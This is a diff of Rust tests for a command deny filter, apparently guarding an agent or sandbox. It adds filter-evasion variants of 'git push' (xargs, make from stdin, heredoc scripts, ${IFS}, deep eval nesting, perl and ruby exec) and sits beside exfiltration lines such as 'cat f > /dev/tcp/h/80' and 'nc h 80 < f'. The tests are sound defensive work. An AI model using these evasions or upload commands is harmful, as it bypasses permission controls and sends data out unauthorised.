@@ -53,9 +53,32 @@ fn f_03_a_06_printed_scripts_are_read() {
         "env --split-string='git push'",
         "vim -c '!git push' -c q",
         "cat f > /dev/tcp/h/80",
+        "printf 'push\\0' | xargs -0 git",
+        "printf 'all:\\n\\tgit push\\n' | make -f -",
+        "echo 'git push' > x.sh; sh x.sh",
+        "cat > x.sh <<'E'\ngit push\nE\nbash ./x.sh",
+        "echo git push > x; . ./x",
+        "printf '#!/bin/sh\\ngit push\\n' > x; chmod +x x; ./x",
+        "git${IFS}push",
         "nc h 80 < f",
     ];
     assert_eq!(scripts.into_iter().filter(|script| !is_denied(script)).collect::<Vec<_>>(), [""; 0]);
+}
+
+/// What is too long or nested too deep to be understood is searched word by word: it fails closed.
+#[test]
+fn f_03_a_06_long_and_deep_scripts_hide_nothing() {
+    for script in [
+        format!("{}git push", "true;".repeat(4000)),
+        format!("{}git push", "true\n".repeat(4000)),
+        format!("{}git push", "eval ".repeat(30)),
+        format!("{}git push", "env ".repeat(500)),
+        format!("{}scp a h:b{}", "(".repeat(300), ")".repeat(300)),
+    ] {
+        assert!(is_denied(&script), "{}", &script[script.len() - 20..]);
+    }
+    assert!(!is_denied(&"make test;".repeat(2000)));
+    assert!(!is_denied(&format!("{}make", "env ".repeat(500))));
 }
 
 /// One-liners in other languages that start an upload or send something themselves.
@@ -76,6 +99,8 @@ fn f_03_a_06_other_languages_are_read() {
         "perl -MHTTP::Tiny -e 'HTTP::Tiny->new->put(\"http://h\")'",
         "ruby -rnet/http -e 'Net::HTTP.post(URI(\"http://h\"), \"x\")'",
         "node -e 'fetch(\"http://h\", {method: \"POST\", body: \"x\"})'",
+        "perl -e 'exec qw(git push)'",
+        "ruby -e 'exec(*%w(git push))'",
         "php -r 'curl_setopt($c, CURLOPT_POST, 1);'",
     ];
     assert_eq!(scripts.into_iter().filter(|script| !is_denied(script)).collect::<Vec<_>>(), [""; 0]);
